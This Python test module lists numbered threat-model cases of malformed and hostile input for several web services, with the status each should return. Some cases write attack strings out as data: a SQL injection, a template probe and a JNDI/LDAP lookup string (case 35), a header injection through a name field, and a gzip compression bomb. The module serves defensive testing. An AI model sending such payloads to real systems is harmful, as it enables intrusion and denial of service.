"""The bad inputs by their numbers: what is sent, and what must come of it, where, or why there is no such thing yet.

The numbers are those of the threat model: 1–26 JSON and types, 27–37 text and names, 38–48 times, 49–60 tokens and
signatures, 61–68 addresses of others, 69–78 who may, 79–84 keys and events.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

from tests.every_service.bodies import CANARY

Body = dict[str, Any]


@dataclass(frozen=True)
class Sent:
    """Goes to the running services: what is made of a body that would be taken, and the statuses that are right."""

    what: str
    make: Callable[[Body], bytes]
    status: int
    to: tuple[str, ...] = ("intake", "consent", "handover", "offers")
    headers: Mapping[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class Elsewhere:
    """Tried by the test of that name, in that file."""

    what: str
    file: str
    test: str


@dataclass(frozen=True)
class Absent:
    """There is nothing here that it could be sent to."""

    what: str
    because: str


Input = Sent | Elsewhere | Absent


def said(body: Body) -> bytes:
    """As JSON, whatever is in it."""
    return json.dumps(body, ensure_ascii=False).encode("utf-8", "surrogatepass")


def first_of(body: Body, member: bytes) -> bytes:
    """The same body with one more member, as it is written."""
    return said(body)[:-1] + b", " + member + b"}"


def changed(*path: str, **members: Any) -> Callable[[Body], bytes]:
    """The body with these members of the object at that path changed."""

    def make(body: Body) -> bytes:
        at = body
        for name in path:
            at = at[name]
        at |= members
        return said(body)

    return make


def person(**members: Any) -> Callable[[Body], bytes]:
    """A person with these members changed."""
    return changed("person", **members)


def need(severity: bytes) -> Callable[[Body], bytes]:
    """A need whose severity, an integer, is written like this."""

    def make(body: Body) -> bytes:
        body |= {"needs": [{"code": "debts", "severity": "how bad"}], "no_needs": False}
        return said(body).replace(b'"how bad"', severity)

    return make


def many_members(count: int) -> Callable[[Body], bytes]:
    """A body with so many members that nobody knows."""
    return lambda body: said(body | {f"{CANARY}{number}": number for number in range(count)})


def nested(depth: int) -> Callable[[Body], bytes]:
    """A body with lists in lists."""
    return lambda body: first_of(body, b'"deep": ' + b"[" * depth + b"]" * depth)


def always(content: bytes) -> Callable[[Body], bytes]:
    """These bytes."""
    return lambda _: content


HTTP, LINE = "tests/chassis/test_http_bad_inputs.py", "tests/chassis/test_http_line.py"
AUTH, NOT_RIGHT = "tests/chassis/test_auth.py", "test_a_token_that_is_not_right_in_everything_proves_nothing"
REFUSALS, PROVES_NOTHING = "tests/every_service/test_refusals.py", "test_who_proves_nothing_is_asked_for_a_token"
TOPICS, AMONG = "tests/hostile/test_topics.py", "test_what_is_no_good_event_is_set_aside_and_nothing_else_is"
CONSENT, RETROACTIVE = (
    "tests/consent/test_domain.py",
    "test_a_grant_names_who_what_and_how_long_and_nothing_retroactive",
)
DOOR, KEY_REUSED = (
    "tests/consent/test_api.py",
    "test_a_key_that_was_used_for_something_else_is_refused_and_does_nothing",
)
NO_SIGNED_EVENTS = "events are not signed: who wrote one is known by its topic"
NO_WEBHOOKS = "no service calls an address that somebody has typed in"
INTAKE = ("intake",)
BOM = b"\xef\xbb\xbf"

INPUTS: Mapping[int, Input] = {
    1: Sent("an empty body", always(b""), 400),
    2: Sent("null", always(b"null"), 422),
    3: Sent("a list", always(b"[]"), 422),
    4: Sent("JSON cut off", lambda body: said(body)[:-2], 400),
    5: Sent("trailing bytes", lambda body: said(body) + CANARY.encode(), 400),
    6: Sent("a trailing comma", lambda body: said(body)[:-1] + b",}", 400),
    7: Sent("a byte order mark", lambda body: BOM + said(body), 400),
    8: Sent("UTF-16", lambda body: said(body).decode().encode("utf-16"), 400),
    9: Sent("invalid UTF-8", lambda body: first_of(body, b'"\xff": 1'), 400),
    10: Sent("a lone surrogate", lambda body: first_of(body, rb'"kanari": "\ud800"'), 400),
    11: Sent("a NUL in text", person(given_names="Kanari\0"), 422, INTAKE),
    12: Sent("a member named twice", lambda body: first_of(body, said(body)[1:-1]), 400),
    13: Sent("lists in lists, 10 000 deep", nested(10_000), 400),
    14: Sent("not a number", lambda body: first_of(body, b'"kanari": NaN'), 400),
    15: Sent("a number beyond all floats", need(b"1e400"), 422, INTAKE),
    16: Sent("an integer of 20 digits", need(b"12345678901234567890"), 422, INTAKE),
    17: Sent("an integer of 200 000 digits", lambda body: first_of(body, b'"kanari": ' + b"1" * 200_000), 400),
    18: Sent("1.0 for an integer", need(b"1.0"), 422, INTAKE),
    19: Sent("thousands of unknown members", many_members(12_000), 422),
    20: Elsewhere("60 MB", LINE, "test_a_body_of_60_mb_is_refused_by_its_length_and_its_sender_hears_it"),
    21: Elsewhere("a body that drips in", HTTP, "test_a_body_that_drips_in_is_given_up_after_ten_seconds"),
    22: Elsewhere("a length that is not that of the body", HTTP, "test_a_bad_header_gets_a_problem_and_no_echo"),
    23: Sent("a compressed bomb", always(gzip.compress(b" " * 20_000_000)), 415, headers={"content-encoding": "gzip"}),
    24: Sent("another content type", said, 415, headers={"content-type": "text/plain"}),
    25: Sent("a member of every object", lambda body: first_of(body, b'"__class__": "kanari"'), 422),
    26: Sent("millions of empty objects", always(b"[" + b"{}," * 5_000_000 + b"{}]"), 413, INTAKE),
    27: Elsewhere("NFC and NFD", "tests/chassis/test_http.py", "test_what_people_write_is_kept_as_it_reads"),
    28: Sent("an override of direction", person(given_names="Ka\u202enari"), 422, INTAKE),
    29: Sent("a name of 10 000 characters", person(family_name="Kanari" * 1667), 422, INTAKE),
    30: Sent("only spaces", person(family_name="   "), 422, INTAKE),
    31: Sent("letters that have two forms", person(family_name="KANARISTRAẞE İ"), 201, INTAKE),
    32: Sent("letters of two scripts", person(family_name="K\N{CYRILLIC SMALL LETTER A}nari"), 201, INTAKE),
    33: Sent("an emoji in a name", person(family_name="Kanari \N{ROCKET}"), 422, INTAKE),
    34: Sent("letters of DIN 91379", person(family_name="A\u0328\u030aČ\u0326\u0308 Kanari"), 201, INTAKE),
    35: Sent(
        "code in free text",
        changed(
            items=[{"category": "needs", "content": {"wish": "'; DROP TABLE person; -- {{7*7}} ${jndi:ldap://x}"}}]
        ),
        201,
        INTAKE,
    ),
    36: Sent("a line break in a name", person(family_name="Kanari\r\nSet-Cookie: x"), 422, INTAKE),
    37: Absent("a formula in an export", "nothing is exported as a table yet"),
    38: Sent("a time without offset", changed(valid_from="2026-11-22T12:00:00"), 422, ("consent",)),
    39: Sent("an offset of 24 hours", changed(valid_from="2026-11-22T12:00:00+24:00"), 422, ("consent",)),
    40: Sent("a time beyond the calendar", changed(valid_from="9999-12-31T23:59:59-12:00"), 422, ("consent",)),
    41: Sent("seconds since 1970 as text", changed(valid_from="1795000000"), 422, ("consent",)),
    42: Sent("a leap second", changed(valid_from="2016-12-31T23:59:60Z"), 422, ("consent",)),
    43: Sent(
        "an hour that does not exist, without offset", changed(valid_from="2027-03-28T02:30:00"), 422, ("consent",)
    ),
    44: Sent("an hour that comes twice, without offset", changed(valid_from="2026-10-25T02:30:00"), 422, ("consent",)),
    45: Elsewhere("an end before its beginning", CONSENT, RETROACTIVE),
    46: Elsewhere("a beginning in the past", CONSENT, RETROACTIVE),
    47: Elsewhere(
        "exactly at the end", CONSENT, "test_a_consent_that_expires_ends_what_rested_on_it_at_the_microsecond"
    ),
    48: Elsewhere("a token from the future", REFUSALS, PROVES_NOTHING),
    49: Elsewhere("no token", REFUSALS, PROVES_NOTHING),
    50: Elsewhere("signed by nobody", REFUSALS, PROVES_NOTHING),
    51: Elsewhere("signed with our public key as a secret", AUTH, NOT_RIGHT),
    52: Elsewhere("an unknown crit", AUTH, NOT_RIGHT),
    53: Elsewhere("expired, for others, of others", REFUSALS, PROVES_NOTHING),
    54: Elsewhere(
        "another client certificate",
        "tests/chassis/test_http.py",
        "test_a_token_bound_to_a_certificate_is_taken_over_its_connection_only",
    ),
    55: Sent("a token of 1 MB", said, 0, headers={"authorization": "Bearer " + "a" * 1_000_000}),
    56: Absent("a certificate that was revoked", "keys end by their validity in the alliance file, none is revoked"),
    57: Absent("a sealed body that is compressed", "dossiers are opened by their receiver alone, who pins algorithms"),
    58: Absent("a sealed body with a password's key", "as 57: algorithms are pinned, and no password is among them"),
    59: Absent("a signed event on another topic", NO_SIGNED_EVENTS),
    60: Absent("an event signed with a retired key", NO_SIGNED_EVENTS),
    **{number: Absent("an address that leads inside", NO_WEBHOOKS) for number in range(61, 69)},
    69: Elsewhere(
        "a handover of others",
        "tests/journeys/test_who_may.py",
        "test_the_door_knows_no_handover_of_somebody_else",
    ),
    70: Sent("an agency in the body", lambda body: first_of(body, b'"from_agency": "kanari"'), 422),
    71: Absent("a list of another agency", "no list can be asked for another agency: each has databases of its own"),
    72: Elsewhere(
        "a purpose without consent",
        "tests/consent/test_decision.py",
        "test_the_decision_is_the_one_a_second_reading_of_the_law_gives",
    ),
    73: Elsewhere(
        "a claim of others", "tests/journeys/test_who_may.py", "test_the_door_knows_no_handover_of_somebody_else"
    ),
    74: Elsewhere(
        "a claim after storage",
        "tests/journeys/test_who_may.py",
        "test_a_claim_is_used_up_when_storage_is_confirmed",
    ),
    75: Elsewhere(
        "a fetch after the withdrawal",
        DOOR,
        "test_after_a_withdrawal_nothing_leaves_and_the_recipient_is_told",
    ),
    76: Elsewhere(
        "a fetch beside the withdrawal", "tests/consent/test_door_race.py", "test_not_one_byte_leaves_after_the_answer"
    ),
    77: Elsewhere("withdrawn twice", DOOR, "test_withdrawing_twice_gives_the_same_answer"),
    78: Elsewhere("withdrawn without any Kafka", DOOR, "test_withdrawing_twice_gives_the_same_answer"),
    79: Elsewhere("a key used twice", "tests/every_service/test_idempotency.py", KEY_REUSED),
    80: Elsewhere("an event a thousand times", TOPICS, "test_an_event_that_comes_a_thousand_times_has_one_effect"),
    81: Elsewhere("a gap", TOPICS, AMONG),
    82: Elsewhere("a type nobody knows", TOPICS, AMONG),
    83: Elsewhere(
        "a record that inflates to 60 MB",
        TOPICS,
        "test_a_batch_that_would_inflate_is_refused_by_the_broker_and_one_that_passes_is_set_aside",
    ),
    84: Elsewhere("a tombstone, another key, no headers, 10 000 headers", TOPICS, AMONG),
}
